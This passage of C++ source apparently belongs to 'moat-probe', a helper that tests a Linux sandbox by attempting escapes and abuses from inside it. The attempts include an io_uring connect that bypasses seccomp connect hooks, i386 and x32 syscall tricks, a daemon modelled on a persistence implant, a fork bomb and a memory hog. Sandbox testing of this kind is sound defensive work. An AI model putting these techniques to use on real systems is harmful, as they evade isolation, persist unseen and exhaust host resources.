  return ok("mount tmpfs /tmp");
}

int do_bpf(const Args&) {
  union bpf_attr attr;
  memset(&attr, 0, sizeof attr);
  attr.map_type = BPF_MAP_TYPE_ARRAY;
  attr.key_size = 4;
  attr.value_size = 4;
  attr.max_entries = 1;
  long fd = syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr);
  if (fd < 0) return err(errno, "bpf BPF_MAP_CREATE");
  close(static_cast<int>(fd));
  return ok("bpf BPF_MAP_CREATE");
}

int do_perf(const Args&) {
  perf_event_attr attr{};
  attr.size = sizeof attr;
  attr.type = PERF_TYPE_SOFTWARE;
  attr.config = PERF_COUNT_SW_TASK_CLOCK;
  attr.exclude_kernel = 1;  // allowed at perf_event_paranoid=2, so the control succeeds unconfined
  attr.exclude_hv = 1;
  long fd = syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
  if (fd < 0) return err(errno, "perf_event_open");
  close(static_cast<int>(fd));
  return ok("perf_event_open");
}

int do_keyctl(const Args&) {
  long id = syscall(SYS_add_key, "user", "moat-probe", "x", 1, KEY_SPEC_PROCESS_KEYRING);
  if (id < 0) return err(errno, "add_key");
  long r = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
  if (r < 0) return err(errno, "keyctl KEYCTL_GET_KEYRING_ID");
  return ok("add_key + keyctl");
}

int do_userfaultfd(const Args&) {
#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif
  long fd = syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
  if (fd < 0) return err(errno, "userfaultfd");
  close(static_cast<int>(fd));
  return ok("userfaultfd");
}

int do_io_uring(const Args&) {
  io_uring_params p{};
  long fd = syscall(SYS_io_uring_setup, 4, &p);
  if (fd < 0) return err(errno, "io_uring_setup");
  close(static_cast<int>(fd));
  return ok("io_uring_setup");
}

// io_uring IORING_OP_CONNECT to HOST PORT (IPv4): a connect() that never passes through the connect
// syscall, so a seccomp connect hook alone would not see it. Under moat io_uring_setup itself must fail.
int do_io_uring_connect(const Args& a) {
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(static_cast<uint16_t>(atoi(a[1].c_str())));
  if (inet_pton(AF_INET, a[0].c_str(), &sa.sin_addr) != 1) return err(EINVAL, "bad address " + a[0]);
  int sock = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (sock < 0) return err(errno, "socket");
  io_uring_params p{};
  long rfd = syscall(SYS_io_uring_setup, 4, &p);
  if (rfd < 0) return err(errno, "io_uring_setup");
  int ring = static_cast<int>(rfd);
  size_t sq_sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
  size_t cq_sz = p.cq_off.cqes + p.cq_entries * sizeof(io_uring_cqe);
  auto* sq = static_cast<char*>(mmap(nullptr, sq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING));
  auto* cq = static_cast<char*>(mmap(nullptr, cq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING));
  auto* sqes = static_cast<io_uring_sqe*>(mmap(nullptr, p.sq_entries * sizeof(io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES));
  if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) return err(errno, "mmap io_uring");
  auto* tail = reinterpret_cast<unsigned*>(sq + p.sq_off.tail);
  auto* mask = reinterpret_cast<unsigned*>(sq + p.sq_off.ring_mask);
  auto* array = reinterpret_cast<unsigned*>(sq + p.sq_off.array);
  unsigned idx = *tail & *mask;
  io_uring_sqe* e = &sqes[idx];
  memset(e, 0, sizeof *e);
  e->opcode = IORING_OP_CONNECT;
  e->fd = sock;
  e->addr = reinterpret_cast<uint64_t>(&sa);
  e->off = sizeof sa;
  array[idx] = idx;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, nullptr, 0) < 0) {
    return err(errno, "io_uring_enter");
  }
  auto* chead = reinterpret_cast<unsigned*>(cq + p.cq_off.head);
  auto* cmask = reinterpret_cast<unsigned*>(cq + p.cq_off.ring_mask);
  auto* cqes = reinterpret_cast<io_uring_cqe*>(cq + p.cq_off.cqes);
  int res = cqes[*chead & *cmask].res;
  if (res < 0) return err(-res, "io_uring connect " + a[0] + ":" + a[1]);
  static const char kHello[] = "MOAT-PROBE-HELLO\n";
  ssize_t n = send(sock, kHello, sizeof kHello - 1, MSG_NOSIGNAL);
  return ok("io_uring connected " + a[0] + ":" + a[1] + " sent " + std::to_string(n));
}

// int 0x80 getpid (i386 nr 20). Under moat the process must be killed before printing anything; the
// test checks the exit status (128+SIGSYS) from outside.
int do_i386_syscall(const Args&) {
  long ret = 20;
  asm volatile("int $0x80" : "+a"(ret) : : "memory");
  return ok("int 0x80 getpid returned " + std::to_string(ret));
}

// An x32-ABI syscall (nr | __X32_SYSCALL_BIT): must be killed like i386, never run unfiltered.
int do_x32_syscall(const Args&) {
  long r = syscall(0x40000000L | SYS_getpid);
  if (r < 0) return err(errno, "x32 getpid");
  return ok("x32 getpid returned " + std::to_string(r));
}

// Reads a SysV shared memory segment by key: the host's segments must not be visible (ipc namespace).
int do_shm_read(const Args& a) {
  key_t key = static_cast<key_t>(strtol(a[0].c_str(), nullptr, 0));
  int id = shmget(key, 0, 0);
  if (id < 0) return err(errno, "shmget " + a[0]);
  void* p = shmat(id, nullptr, SHM_RDONLY);
  if (p == reinterpret_cast<void*>(-1)) return err(errno, "shmat " + a[0]);
  std::string content(static_cast<const char*>(p), strnlen(static_cast<const char*>(p), 4096));
  shmdt(p);
  return ok("shm " + a[0] + ": " + escape(content));
}

std::string status_field(const std::string& status, const std::string& key) {
  std::istringstream in(status);
  std::string line;
  while (std::getline(in, line)) {
    if (line.rfind(key + ":", 0) == 0) {
      std::string v = line.substr(key.size() + 1);
      v.erase(0, v.find_first_not_of(" \t"));
      return v;
    }
  }
  return "?";
}

int do_caps(const Args&) {
  std::ifstream in("/proc/self/status");
  std::stringstream ss;
  ss << in.rdbuf();
  std::string s = ss.str();
  std::string out;
  for (const char* k : {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"}) {
    out += std::string(out.empty() ? "" : " ") + k + "=" + status_field(s, k);
  }
  return ok(out);
}

int do_id(const Args&) {
  uid_t r, e, s;
  gid_t rg, eg, sg;
  getresuid(&r, &e, &s);
  getresgid(&rg, &eg, &sg);
  std::string out = "uid=" + std::to_string(r) + " euid=" + std::to_string(e) +
                    " suid=" + std::to_string(s) + " gid=" + std::to_string(rg) +
                    " egid=" + std::to_string(eg) + " pid=" + std::to_string(getpid());
  return ok(out);
}

int do_fds(const Args&) {
  DIR* d = opendir("/proc/self/fd");
  if (!d) return err(errno, "opendir /proc/self/fd");
  int self = dirfd(d);
  std::vector<int> fds;
  while (dirent* e = readdir(d)) {
    if (e->d_name[0] == '.') continue;
    int fd = atoi(e->d_name);
    if (fd != self) fds.push_back(fd);
  }
  closedir(d);
  std::sort(fds.begin(), fds.end());
  std::string out;
  for (int fd : fds) out += std::string(out.empty() ? "" : ",") + std::to_string(fd);
  return ok("fds " + out);
}

// Forks, runs PATH ARGS... and reports its output: used with a setuid-root copy of the probe itself.
int do_exec_setuid(const Args& a) {
  int p[2];
  if (pipe2(p, O_CLOEXEC) < 0) return err(errno, "pipe");
  pid_t pid = fork();
  if (pid == 0) {
    dup2(p[1], 1);
    std::vector<char*> argv;
    for (const auto& s : a) argv.push_back(const_cast<char*>(s.c_str()));
    argv.push_back(nullptr);
    execv(argv[0], argv.data());
    printf("ERR %s execv %s\n", errno_name(errno), a[0].c_str());
    fflush(stdout);
    _exit(126);
  }
  close(p[1]);
  std::string child_out;
  read_fd_all(p[0], &child_out);
  close(p[0]);
  int st = 0;
  waitpid(pid, &st, 0);
  while (!child_out.empty() && child_out.back() == '\n') child_out.pop_back();
  if (WIFEXITED(st) && WEXITSTATUS(st) == 126) return err(EACCES, "exec: " + escape(child_out));
  return ok("exec " + a[0] + " self-euid=" + std::to_string(geteuid()) + " child: " + escape(child_out));
}

// ---- leftovers and exhaustion ------------------------------------------------------------------

// Double fork + setsid, like a real persistence implant. The grandchild appends to HEARTBEAT every
// 100 ms for up to 60 s; the test watches the file from outside after moat returns. TAG only makes the
// process findable in the host's /proc so that the test can clean up when the sandbox failed.
int do_daemon(const Args& a) {
  char* abs = realpath(".", nullptr);
  std::string hb = a[0][0] == '/' ? a[0] : std::string(abs ? abs : ".") + "/" + a[0];
  free(abs);
  pid_t pid = fork();
  if (pid < 0) return err(errno, "fork");
  if (pid == 0) {
    setsid();
    if (fork() != 0) _exit(0);
    signal(SIGHUP, SIG_IGN);
    signal(SIGTERM, SIG_IGN);
    signal(SIGINT, SIG_IGN);
    signal(SIGPIPE, SIG_IGN);
    int devnull = open("/dev/null", O_RDWR);
    for (int fd = 0; fd < 3; ++fd) {
      if (devnull >= 0) {
        dup2(devnull, fd);
      } else {
        close(fd);
      }
    }
    for (int i = 0; i < 600; ++i) {
      int fd = open(hb.c_str(), O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
      if (fd >= 0) {
        if (write(fd, ".", 1) < 0) {
        }
        close(fd);
      }
      usleep(100 * 1000);
    }
    _exit(0);
  }
  waitpid(pid, nullptr, 0);
  // Wait for the first beat so that the test knows the daemon really ran.
  for (int i = 0; i < 50; ++i) {
    if (access(hb.c_str(), F_OK) == 0) return ok("daemon beating into " + hb);
    usleep(20 * 1000);
  }
  return err(ETIMEDOUT, "daemon did not start beating into " + hb);
}

int do_fork_bomb(const Args& a) {
  int seconds = atoi(a[0].c_str());
  // Bounded so that a broken sandbox hurts the host only a little: 2000 is far above any limit a
  // profile would set, and each child exits after SECONDS.
  constexpr int kMax = 2000;
  auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
  int forked = 0;
  int last_errno = 0;
  while (forked < kMax && std::chrono::steady_clock::now() < deadline) {
    pid_t pid = fork();
    if (pid == 0) {
      auto left = deadline - std::chrono::steady_clock::now();
      std::this_thread::sleep_for(left);
      _exit(0);
    }
    if (pid < 0) {
      last_errno = errno;
      if (errno == EAGAIN || errno == ENOMEM) break;
      continue;
    }
    ++forked;
  }
  if (last_errno != 0) return err(last_errno, "fork refused after forked=" + std::to_string(forked));
  return ok("forked=" + std::to_string(forked));
}

int do_mem_hog(const Args& a) {
  long mib = atol(a[0].c_str());
  constexpr size_t kChunk = 16u << 20;
  long touched = 0;
  for (long done = 0; done < mib; done += 16) {
    void* p = mmap(nullptr, kChunk, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) return err(errno, "mmap after " + std::to_string(touched) + " MiB");
    memset(p, 0x5a, kChunk);
    touched += 16;
  }
  return ok("touched " + std::to_string(touched) + " MiB");
}

int do_sleep(const Args& a) {
  sleep(static_cast<unsigned>(atoi(a[0].c_str())));
  return ok("slept");
}

struct Verb {
  const char* name;
  size_t min_args;
  const char* synopsis;
  std::function<int(const Args&)> fn;
};

const std::vector<Verb>& verbs() {
  static const std::vector<Verb> kVerbs = {
      {"read", 1, "PATH", do_read},
      {"read-at", 2, "FD RELPATH", do_read_at},
      {"read-fd", 1, "FD", do_read_fd},
      {"write", 2, "PATH CONTENT", do_write},
      {"append", 2, "PATH CONTENT", do_append},
      {"open-w", 1, "PATH", do_open_w},
      {"create", 1, "PATH", do_create},
      {"mkdir", 1, "PATH", do_mkdir},
      {"symlink", 2, "TARGET LINK", do_symlink},
      {"hardlink", 2, "TARGET LINK", do_hardlink},
      {"write-proc-fd", 2, "PATH CONTENT [self|thread-self|pid]", do_write_proc_fd},
      {"truncate", 2, "PATH LEN [fd]", do_truncate},
      {"tmpfile-link", 3, "DIR NEWPATH CONTENT [proc|empty]", do_tmpfile_link},
      {"leader-exit", 3, "FILE DIR PROG [ARGS...]", do_leader_exit},
      {"rename", 2, "FROM TO", do_rename},
      {"unlink", 1, "PATH", do_unlink},
      {"connect-unix", 1, "PATH", do_connect_unix},
      {"connect-abstract", 1, "NAME", do_connect_abstract},
      {"connect-tcp", 2, "HOST PORT", do_connect_tcp},
      {"reconnect-tcp", 4, "HOST PORT THOST TPORT", do_reconnect_tcp},
      {"reuse-closed-tcp", 5, "HOST PORT THOST TPORT BPORT", do_reuse_closed_tcp},
      {"race-swap-connect", 5, "HOST PORT THOST TPORT SECONDS", do_race_swap_connect},
      {"kill", 2, "PID SIG", do_kill},
      {"ptrace", 1, "PID", do_ptrace},
      {"vm-read", 1, "PID", do_vm_read},
      {"environ", 1, "PID", do_environ},
      {"environ-scan", 1, "NEEDLE", do_environ_scan},
      {"mem-scan", 1, "REVERSED-NEEDLE", do_mem_scan},
      {"write-hex", 2, "PATH HEX", do_write_hex},
      {"tiocsti", 0, "[hi]", do_tiocsti},
      {"x32-syscall", 0, "", do_x32_syscall},
      {"shm-read", 1, "KEY", do_shm_read},
      {"tioclinux", 0, "", do_tioclinux},
      {"chmod-suid", 1, "PATH", do_chmod_suid},
      {"create-suid", 1, "PATH", do_create_suid},
      {"setcap", 1, "PATH", do_setcap},
      {"unshare-user", 0, "", do_unshare_user},
      {"clone-user", 0, "", do_clone_user},
      {"clone3-user", 0, "", do_clone3_user},
      {"mount", 0, "", do_mount},
      {"bpf", 0, "", do_bpf},
      {"perf", 0, "", do_perf},
      {"keyctl", 0, "", do_keyctl},
      {"userfaultfd", 0, "", do_userfaultfd},
      {"io-uring", 0, "", do_io_uring},
      {"i386-syscall", 0, "", do_i386_syscall},
      {"caps", 0, "", do_caps},
      {"id", 0, "", do_id},
      {"fds", 0, "", do_fds},
      {"exec-setuid", 1, "PATH [ARGS...]", do_exec_setuid},
      {"daemon", 1, "HEARTBEAT [TAG]", do_daemon},
      {"fork-bomb", 1, "SECONDS", do_fork_bomb},
      {"mem-hog", 1, "MIB", do_mem_hog},
      {"sleep", 1, "SECONDS", do_sleep},
      {"io-uring-connect", 2, "HOST PORT", do_io_uring_connect},
  };
  return kVerbs;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) {
    printf("ERR EINVAL usage: moat-probe VERB ARGS...; verbs:");
    for (const auto& v : verbs()) printf(" %s", v.name);
    printf("\n");
    return 2;
  }
  std::string verb = argv[1];
  Args args(argv + 2, argv + argc);
  for (const auto& v : verbs()) {
    if (verb == v.name) {
      if (args.size() < v.min_args) return usage(verb, v.synopsis);
      return v.fn(args);
    }
  }
  printf("ERR EINVAL unknown verb %s\n", verb.c_str());
  return 2;
}
